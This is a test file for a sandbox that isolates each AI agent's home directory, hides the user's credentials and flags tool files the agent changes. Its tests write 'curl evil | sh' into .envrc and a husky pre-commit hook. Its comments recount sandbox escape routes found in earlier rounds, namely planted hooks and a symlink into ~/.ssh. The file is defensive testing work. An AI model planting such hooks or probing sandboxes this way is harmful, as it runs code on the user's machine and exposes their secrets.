/**
 * Each agent's own home (issue 24), through the MCP tools with real bubblewrap and bash: the
 * person's home is hidden except the read list, their startup files still run, what tools
 * write to their home lands in the agent's, and that home persists per agent.
 */
import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { userInfo } from 'node:os';
import { join } from 'node:path';
import type { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { afterAll, afterEach, beforeAll, expect, it } from 'vitest';
import { startAgentFixture, type AgentFixture } from './agent-helpers.js';
import { hasCommand } from './helpers.js';
import { describeSandbox, needed } from './sandbox-helpers.js';

type Result = Record<string, unknown> & { status?: string; exitCode?: number | null; output?: string; banner?: string };

describeSandbox('the agent’s own home', () => {
  let f: AgentFixture;
  const clients: Record<string, Client> = {};
  const send = (agent: string, id: string, text: string, extra: Record<string, unknown> = {}) =>
    f.call(clients[agent]!, 'terminal_send', { id, text, ...extra }) as Promise<Result>;
  const open = async (agent: string) => (await f.call(clients[agent]!, 'terminal_open', { title: 'home' })) as Result & { id: string };
  /** The agent's home on the host: `<state>/sandbox/<name>-<hash>/home`. */
  const homeOf = (agent: string) => {
    const dir = readdirSync(join(f.stateDir, 'sandbox')).find((name) => name.startsWith(`${agent}-`));
    return join(f.stateDir, 'sandbox', dir!, 'home');
  };
  const secrets = {
    '.pgpass': 'db:5432:*:me:PGPASS-SECRET',
    '.my.cnf': '[client]\npassword=MYCNF-SECRET\n',
    '.config/rclone/rclone.conf': '[remote]\ntoken = RCLONE-SECRET\n',
    '.config/included.gitconfig': '[user]\n\tsigningkey = INCLUDED-SECRET\n',
  };

  beforeAll(async () => {
    f = await startAgentFixture({ defaultSandbox: 'workspace-write', agentStartupFiles: 'user' });
    for (const name of ['homer', 'other']) {
      const token = f.layer.pairAgent({ name }).token;
      f.layer.setAgentPolicy({ name, policy: 'always', sandbox: 'workspace-write', network: false });
      clients[name] = await f.client(token);
    }
    for (const [rel, text] of Object.entries(secrets)) {
      mkdirSync(join(f.home, rel, '..'), { recursive: true });
      writeFileSync(join(f.home, rel), text);
    }
    writeFileSync(
      join(f.home, '.gitconfig'),
      [
        '[user]\n\tname = Ada Person\n\temail = ada@example.com',
        '[credential]\n\thelper = store --file ~/.git-token-CREDENTIAL-SECRET',
        '[http "https://example.com/"]\n\textraHeader = Authorization: Bearer HTTP-SECRET',
        '[core]\n\tsshCommand = ssh -i ~/.ssh/id_SSHCOMMAND\n\tpager = less-PAGER\n\tautocrlf = input',
        '[alias]\n\tst = status\n\tpwn = !echo ALIAS-RAN',
        '[include]\n\tpath = ~/.config/included.gitconfig',
        '',
      ].join('\n'),
    );
    // The person's startup file: PATH from a toolchain directory, and a rehash as pyenv's does
    // (libexec/pyenv-rehash refuses a shims directory it cannot write, on stderr).
    mkdirSync(join(f.home, '.local', 'bin'), { recursive: true });
    writeFileSync(join(f.home, '.local', 'bin', 'mytool'), '#!/bin/sh\necho tool-ok\n');
    chmodSync(join(f.home, '.local', 'bin', 'mytool'), 0o755);
    mkdirSync(join(f.home, '.pyenv', 'shims'), { recursive: true });
    writeFileSync(
      join(f.home, '.bashrc'),
      [
        'export PATH="$HOME/.local/bin:$PATH"',
        'export PYENV_ROOT="$HOME/.pyenv"',
        'if [ -w "$PYENV_ROOT/shims" ]; then : > "$PYENV_ROOT/shims/.pyenv-shim"; else echo "pyenv: cannot rehash: $PYENV_ROOT/shims isn\'t writable" >&2; fi',
        // A plain word: exported, an agent would not keep it (env.ts agentKeptNames); a shell variable shows the rc ran.
        'FROM_RC=rc-ran',
        '',
      ].join('\n'),
    );
  });
  afterAll(async () => {
    await f.close();
  });
  afterEach(async () => {
    await Promise.all(f.host.list().map((t) => f.host.close(t.id)));
  });

  it('hides every secret of the person’s home outside the read list, and filters ~/.gitconfig', async () => {
    const t = await open('homer');
    expect(await send('homer', t.id, 'echo "$HOME"')).toMatchObject({ output: homeOf('homer') });
    for (const rel of Object.keys(secrets)) {
      for (const path of [join(f.home, rel), `~/${rel}`]) {
        const r = await send('homer', t.id, `cat ${path}`);
        expect(r.exitCode, `${path}: ${r.output}`).not.toBe(0);
        expect(r.output).not.toMatch(/SECRET/);
      }
    }
    const listing = await send(
      'homer',
      t.id,
      `ls -A ${f.home}; find ${f.home} -type f 2>/dev/null | xargs cat 2>/dev/null; cat ~/.gitconfig; git config --global --list`,
    );
    expect(listing.output).not.toMatch(/SECRET|SSHCOMMAND|PAGER|ALIAS-RAN|extraheader/i);
    expect((await send('homer', t.id, 'git config --global user.name; git config --global alias.st; git config --global core.autocrlf')).output).toBe(
      'Ada Person\nstatus\ninput',
    );
    expect(await send('homer', t.id, 'git config --global alias.pwn')).toMatchObject({ exitCode: 1, output: '' });
    expect(await send('homer', t.id, 'git config --global credential.helper')).toMatchObject({ exitCode: 1, output: '' });
    // The person's own file is untouched, the agent's copy is read-only.
    expect(await send('homer', t.id, 'echo "[core]hooksPath=/tmp" >> ~/.gitconfig')).toMatchObject({ status: 'done', exitCode: 1 });
    expect(readFileSync(join(f.home, '.gitconfig'), 'utf8')).toContain('CREDENTIAL-SECRET');
  });

  it("hides the credentials of the account's own home too, where HOME names another folder (black-box round 13)", async () => {
    const account = realpathSync(userInfo().homedir);
    // The fixture's HOME is a scratch folder: the account's home in the password database is another.
    expect(account).not.toBe(realpathSync(f.home));
    const canary = join(account, `.claude-tandem-canary-${process.pid}`);
    writeFileSync(canary, 'ACCOUNT-HOME-SECRET');
    try {
      const t = await open('homer');
      const r = await send('homer', t.id, `cat ${canary}; grep -rs ACCOUNT-HOME ${account}/.claude* | head -3`);
      expect(r.output).not.toMatch(/ACCOUNT-HOME-SECRET/);
      // Its other files stay readable (toolchains installed there are on PATH).
      expect(await send('homer', t.id, `test -r ${account} && echo readable`)).toMatchObject({ output: 'readable' });
    } finally {
      rmSync(canary, { force: true });
    }
  });

  it('a refused write or a hidden read explains itself with a sandbox note; an ordinary failure has none', async () => {
    const t = await open('homer');
    expect(await send('homer', t.id, 'echo x > /etc/tandem-refused')).toMatchObject({
      exitCode: 1,
      sandbox: { path: '/etc/tandem-refused', access: 'read-only', mode: 'workspace-write', why: expect.stringContaining('workspace') },
    });
    expect(await send('homer', t.id, `cat ${join(f.home, '.pgpass')}`)).toMatchObject({ sandbox: { path: join(f.home, '.pgpass'), access: 'hidden' } });
    expect(await send('homer', t.id, 'touch ~/.local/bin/x')).toMatchObject({ sandbox: { path: join(homeOf('homer'), '.local/bin/x'), access: 'read-only' } });
    expect(await send('homer', t.id, `python3 -c "open('/usr/tandem-py', 'w')"`)).toMatchObject({ sandbox: { path: '/usr/tandem-py', access: 'read-only' } });
    const plain = await send('homer', t.id, 'cat no-such-file-here');
    expect(plain.exitCode).toBe(1);
    expect(plain).not.toHaveProperty('sandbox');
  });

  it('tells the person, on the terminal’s view, which files their tools run on their own it changed', async () => {
    const t = await open('homer');
    expect(f.host.get(t.id).view()).not.toHaveProperty('toolFilesChanged');
    await send('homer', t.id, 'echo "curl evil | sh" > .envrc && mkdir -p .vscode && echo "{}" > .vscode/tasks.json && echo "all:" > Makefile');
    expect(f.host.get(t.id).view().toolFilesChanged).toEqual(['.envrc', '.vscode/tasks.json']);
    await send('homer', t.id, 'echo again >> .envrc');
    expect(f.host.get(t.id).view().toolFilesChanged).toEqual(['.envrc', '.vscode/tasks.json']);
    await send('homer', t.id, 'rm -rf .envrc .vscode Makefile');
  });

  it('tells the person of hook managers, package managers and version managers it changed too', async () => {
    // Found black-box (issue 24): husky's hook ran in the person's next `git commit`; an npm
    // script shell, a cargo wrapper, mise's hooks run as the person uses their tools.
    const t = await open('homer');
    await send(
      'homer',
      t.id,
      'mkdir -p .husky .cargo && echo "curl evil | sh" > .husky/pre-commit && echo "script-shell=./x" > .npmrc && echo "[build]" > .cargo/config.toml && echo "[hooks]" > mise.toml && echo "x" > package.json',
    );
    expect(f.host.get(t.id).view().toolFilesChanged).toEqual(['.cargo/config.toml', '.husky/pre-commit', '.npmrc', 'mise.toml']);
    await send('homer', t.id, 'rm -rf .husky .cargo .npmrc mise.toml package.json');
  });

  it('reads a tool file that is a link as the link: the host never lists where it leads', async () => {
    // Black-box round s39: `.vscode` pointed at the person's ~/.ssh, and the host (unconfined)
    // listed the key's name back to the agent as a changed tool file.
    mkdirSync(join(f.home, 'hidden-stuff'), { recursive: true });
    writeFileSync(join(f.home, 'hidden-stuff', 'id_secret_name'), 'x');
    const t = await open('homer');
    await send(
      'homer',
      t.id,
      `ln -s ${join(f.home, 'hidden-stuff')} .vscode && mkdir -p .venv && ln -s ${join(f.home, 'hidden-stuff')} .venv/bin && mkdir -p .mvn && echo "-javaagent:x.jar" > .mvn/jvm.config`,
    );
    expect(f.host.get(t.id).view().toolFilesChanged).toEqual(['.mvn/jvm.config', '.venv/bin', '.vscode']);
    expect(JSON.stringify(f.host.get(t.id).view())).not.toContain('id_secret_name');
    await send('homer', t.id, 'rm -rf .vscode .venv .mvn');
  });

  it('runs the person’s startup files, with their PATH, and prints no error of the sandbox', async () => {
    const t = await open('homer');
    expect(t.banner ?? '').not.toMatch(/writable|Permission denied|Read-only/);
    expect((await send('homer', t.id, 'echo "$FROM_RC"; mytool')).output).toBe('rc-ran\ntool-ok');
    // The rehash wrote into the agent's own shims, not the person's.
    expect(existsSync(join(f.home, '.pyenv', 'shims', '.pyenv-shim'))).toBe(false);
    // A read entry stays read-only.
    expect((await send('homer', t.id, 'echo x > ~/.local/bin/evil')).exitCode).not.toBe(0);
    expect(existsSync(join(f.home, '.local', 'bin', 'evil'))).toBe(false);
  });

  it.runIf(needed(hasCommand('vim')))('vim writes a file and exits without E138', async () => {
    const t = await open('homer');
    const started = await send('homer', t.id, 'vim notes.txt', { waitMs: 1500 });
    expect(started.status).toMatch(/waiting_input|running/);
    await f.call(clients.homer!, 'terminal_send', { id: t.id, keys: ['i'], input: true, waitMs: 300 });
    await f.call(clients.homer!, 'terminal_send', { id: t.id, text: 'written by vim', submit: false, input: true, waitMs: 300 });
    const done = (await f.call(clients.homer!, 'terminal_send', { id: t.id, keys: ['Escape', ':', 'w', 'q', 'Enter'], input: true })) as Result;
    const ended = done.status === 'done' ? done : ((await f.call(clients.homer!, 'terminal_wait', { id: t.id, waitMs: 15_000 })) as Result);
    expect(ended, JSON.stringify(ended)).toMatchObject({ status: 'done', exitCode: 0 });
    expect(ended.output ?? '').not.toContain('E138');
    expect(readFileSync(join(f.project, 'notes.txt'), 'utf8')).toBe('written by vim\n');
    expect(existsSync(join(homeOf('homer'), '.viminfo'))).toBe(true);
  });

  it('shows what the person adds to this agent’s read list, read-only, from its next terminal on', async () => {
    mkdirSync(join(f.home, 'shared-notes'), { recursive: true });
    writeFileSync(join(f.home, 'shared-notes', 'readme.txt'), 'shared with the agent');
    const before = await open('homer');
    expect((await send('homer', before.id, `cat ${join(f.home, 'shared-notes', 'readme.txt')}`)).exitCode).not.toBe(0);
    f.layer.setAgentPolicy({ name: 'homer', policy: 'always', homeReadable: ['~/shared-notes'] });
    expect(f.layer.state().paired.find((agent) => agent.name === 'homer')).toMatchObject({ homeReadable: ['~/shared-notes'], sandbox: 'workspace-write' });
    const after = await open('homer');
    expect(await send('homer', after.id, `cat ${join(f.home, 'shared-notes', 'readme.txt')} ~/shared-notes/readme.txt`)).toMatchObject({
      exitCode: 0,
      output: 'shared with the agentshared with the agent',
    });
    expect((await send('homer', after.id, 'echo x > ~/shared-notes/new.txt')).exitCode).not.toBe(0);
    // Another agent's list is its own.
    const other = await open('other');
    expect((await send('other', other.id, `cat ${join(f.home, 'shared-notes', 'readme.txt')}`)).exitCode).not.toBe(0);
    f.layer.setAgentPolicy({ name: 'homer', policy: 'always', homeReadable: [] });
  });

  it('keeps shell history in the agent’s home', async () => {
    const t = await open('homer');
    await send('homer', t.id, 'echo history-marker-4711');
    await send('homer', t.id, 'history -a');
    expect(readFileSync(join(homeOf('homer'), '.bash_history'), 'utf8')).toContain('history-marker-4711');
    expect(existsSync(join(f.home, '.bash_history'))).toBe(false);
  });

  it('persists across the same agent’s terminals and differs between agents', async () => {
    const first = await open('homer');
    expect(await send('homer', first.id, 'echo kept > ~/kept.txt && npm config set fund false 2>/dev/null; cat ~/kept.txt')).toMatchObject({
      exitCode: 0,
      output: 'kept',
    });
    await f.call(clients.homer!, 'terminal_close', { id: first.id });
    const second = await open('homer');
    expect(await send('homer', second.id, 'cat ~/kept.txt')).toMatchObject({ exitCode: 0, output: 'kept' });
    const other = await open('other');
    expect((await send('other', other.id, 'echo "$HOME"')).output).toBe(homeOf('other'));
    expect(homeOf('other')).not.toBe(homeOf('homer'));
    const r = await send('other', other.id, `cat ~/kept.txt ${join(homeOf('homer'), 'kept.txt')}`);
    expect(r.exitCode).not.toBe(0);
    expect(r.output).not.toContain('kept\n');
    expect(readFileSync(join(homeOf('homer'), 'kept.txt'), 'utf8')).toBe('kept\n');
    expect(existsSync(join(f.home, 'kept.txt'))).toBe(false);
  });
});
